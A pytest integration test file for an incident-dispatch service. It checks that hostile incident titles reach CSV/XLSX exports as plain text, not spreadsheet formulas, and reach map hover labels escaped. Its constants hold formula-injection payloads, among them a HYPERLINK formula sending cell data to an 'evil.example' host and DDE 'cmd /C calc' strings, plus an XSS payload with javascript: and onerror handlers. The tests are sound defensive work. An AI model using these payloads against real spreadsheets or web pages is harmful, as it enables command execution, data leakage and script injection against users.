"""Incident titles are outside text (MQTT, the API, the dispatch form): posted through the real API
as a dispatcher, they must reach an analyst's CSV and XLSX as text, never as spreadsheet formulas
(API and command line), and the maps' hover labels as text, never as Plotly markup."""

from __future__ import annotations

import io
import json
import zipfile
from datetime import UTC, datetime, timedelta

import openpyxl
import pyarrow.parquet as pq
import pytest

from ingest.service import sync_registry
from tests.integration.test_command_view import answer, command
from tests.integration.test_incidents import REFRESH_OUTPUTS as DISPATCH_OUTPUTS
from tests.integration.test_reports import read_csv, run_cli
from tests.integration.test_web_pages import callback

# category → title: the classic formula payloads (one incident each: a category of its own).
FORMULAS = {
    "fire": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "gas_leak": "+cmd|' /C calc'!A0",
    "public_order": "@SUM(1+1)*cmd|' /C calc'!A0",
    "road_damage": "-2+3",
    "noise_complaint": "\t=1+1",
}
MARKUP = '<a href="javascript:alert(1)">x</a><img src=x onerror=alert(1)>'
MARKUP_SHOWN = '&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;'


def post_incidents(client_for, db, nyc, titles: dict[str, str]) -> None:
    sync_registry(db, nyc)
    officer = client_for("dispatcher")
    for number, (category, title) in enumerate(titles.items()):
        body = {"id": f"hostile-{number}", "ts": datetime.now(UTC).isoformat(), "source": "hotline",
                "category": category, "severity": "critical", "lon": -73.9857, "lat": 40.7484, "title": title}
        response = officer.post("/api/v1/incidents", json=body)
        assert response.status_code in (200, 201), response.get_json()


@pytest.fixture
def period() -> dict[str, str]:
    today = datetime.now(UTC).date()  # incidents are received when stored: now
    return {"from": (today - timedelta(days=1)).isoformat(), "to": (today + timedelta(days=1)).isoformat()}


def assert_no_formula(xlsx: bytes) -> list[str]:
    """The incidents sheet's titles, after checking that no cell of the file is a formula."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    for sheet in book:
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], sheet.title
    sheet = book["incidents"]
    column = [cell.value for cell in sheet[2]].index("title")
    titles = [row[column] for row in sheet.iter_rows(min_row=3)]
    assert {cell.data_type for cell in titles} == {"s"}
    return [cell.value for cell in titles]


def test_formula_titles_reach_csv_and_xlsx_as_text_from_the_api_and_the_cli(client_for, db, nyc, period, tmp_path,
                                                                           monkeypatch, database_url) -> None:
    post_incidents(client_for, db, nyc, FORMULAS)
    neutral = sorted("'" + title for title in FORMULAS.values())
    analyst = client_for("analyst")

    def export(fmt: str) -> bytes:
        response = analyst.get("/api/v1/reports/incidents", query_string={**period, "format": fmt})
        assert response.status_code == 200, response.get_data()[:300]
        return response.get_data()

    assert sorted(read_csv(export("csv"))["title"]) == neutral
    assert sorted(assert_no_formula(export("xlsx"))) == neutral
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"incidents.{fmt}"
        assert run_cli(monkeypatch, database_url, out, "--table", "incidents", "--format", fmt, period=period) == 0
        titles = read_csv(out.read_bytes())["title"] if fmt == "csv" else assert_no_formula(out.read_bytes())
        assert sorted(titles) == neutral, fmt
    # Data formats, read by programs, keep the titles exactly as stored.
    assert sorted(row["title"] for row in json.loads(export("json"))["rows"]) == sorted(FORMULAS.values())
    assert sorted(pq.read_table(io.BytesIO(export("parquet"))).column("title").to_pylist()) == \
        sorted(FORMULAS.values())


def hover_texts(figure: dict) -> list[str]:
    return [text for trace in figure["data"] for text in trace.get("text") or ()]


def test_markup_in_a_title_is_text_in_the_dispatch_and_command_view_hover_labels(client_for, db, nyc) -> None:
    post_incidents(client_for, db, nyc, {"fire": MARKUP})
    inputs = [("dispatch-refresh", "n_intervals", 3), ("dispatch-sort", "value", "sla"),
              ("dispatch-show", "value", "open"), ("dispatch-selected", "data", None),
              ("dispatch-done", "data", None), ("dispatch-new-message", "children", None),
              ("dispatch-layers", "value", None)]
    response = callback(client_for("dispatcher"), DISPATCH_OUTPUTS, inputs, [("dispatch-map-drawn", "data", None)],
                        changed="dispatch-refresh.n_intervals")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    dispatch_texts = hover_texts(response.get_json()["response"]["dispatch-map"]["figure"])
    assert any(text.endswith(f" {MARKUP_SHOWN}") for text in dispatch_texts), dispatch_texts
    command_texts = hover_texts(answer(command(client_for("viewer")))["command-map"]["figure"])
    assert any(text.endswith(f" · {MARKUP_SHOWN}") for text in command_texts)
    for text in dispatch_texts + command_texts:  # unit names and unit ids as well: no markup anywhere
        assert "<" not in text and ">" not in text, text
